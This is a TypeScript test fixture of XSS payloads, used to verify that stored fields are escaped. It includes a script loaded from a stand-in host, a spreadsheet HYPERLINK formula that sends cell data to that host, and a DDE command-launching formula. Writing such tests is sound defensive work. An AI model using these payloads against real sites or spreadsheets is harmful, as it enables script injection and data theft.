/**
 * Hostile text for every stored field that is shown somewhere (tests/api/hostileContent.test.ts,
 * tests/e2e/hostileContent.e2e.ts). A payload that runs sets `window.__xss = 1` instead of calling
 * alert, so a browser test can ask the page afterwards; a few also try to open a dialog.
 *
 * Every payload is at most 80 characters (the shortest plain-text limit most fields share), has no
 * leading or trailing spaces (plain fields are trimmed) and is distinct when lower-cased (user names
 * are unique regardless of case).
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Script elements
  "<script>window.__xss=1</script>",
  "<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>",
  "<<script>window.__xss=1//<</script>",
  '"><script>window.__xss=1</script>',
  "</textarea><script>window.__xss=1</script>",
  // Event handlers
  "<img src=x onerror=window.__xss=1>",
  '<img src="y" onerror="window.__xss=1;alert(1)">',
  "<IMG SRC=z OnErRoR=window.__xss=1>",
  "<img src=/objects/00000000-0000-4000-8000-000000000000 onerror=window.__xss=1>",
  "<body onload=window.__xss=1>",
  "<details open ontoggle=window.__xss=1>",
  "<input autofocus onfocus=window.__xss=1>",
  "<video><source onerror=window.__xss=1></video>",
  "<p onmouseover=window.__xss=1 style=position:fixed;inset:0>cobre a tela</p>",
  // SVG and MathML
  "<svg onload=window.__xss=1>",
  "<svg><script>window.__xss=1</script></svg>",
  '<svg><a xlink:href="javascript:window.__xss=1"><text y=9>x</text></a></svg>',
  '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
  // javascript:, data: and friends in URLs
  '<a href="javascript:window.__xss=1">clique</a>',
  '<a href="JaVaScRiPt:window.__xss=1">clique aqui</a>',
  '<a href="jav&#x09;ascript:window.__xss=1">tab</a>',
  '<a href="&#106;avascript:window.__xss=1">entidade</a>',
  '<a href="jav\tascript:window.__xss=1">tab literal</a>',
  '<a href="data:text/html,<script>window.__xss=1</script>">dados</a>',
  '<img src="data:image/svg+xml,<svg onload=window.__xss=1>">',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="data:text/html,<script>window.__xss=1</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="javascript:/">',
  '<form action="javascript:window.__xss=1"><button>enviar</button></form>',
  // Styles
  '<style>*{background:url("javascript:window.__xss=1")}</style>',
  '<div style="width:expression(window.__xss=1)">expressão</div>',
  '<p style="background:url(javascript:window.__xss=1)">fundo</p>',
  // Mutation XSS and malformed markup
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  "<math><mtext><table><mglyph><style><img src=w onerror=window.__xss=1>",
  '<!--<img src="--><img src=v onerror=window.__xss=1//">',
  "<title><img src=u onerror=window.__xss=1></title>",
  "<img src=t onerror=window.__xss=1//",
  // Breaking out of attributes
  "' onmouseover='window.__xss=1' x='",
  '" autofocus onfocus="window.__xss=1',
  // Escaped and look-alike text that must stay text
  "&lt;script&gt;window.__xss=1&lt;/script&gt;",
  "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
  "＜script＞window.__xss=1＜/script＞",
  // Template and formula injection
  "{{constructor.constructor('window.__xss=1')()}}",
  "${window.__xss=1}",
  '=HYPERLINK("http://xss.invalid/?"&A1,"Clique aqui")',
  "=cmd|' /C calc'!A0",
];

/** Marks what a payload did once run: the browser tests assert it stays unset. */
export const XSS_FLAG = "__xss";
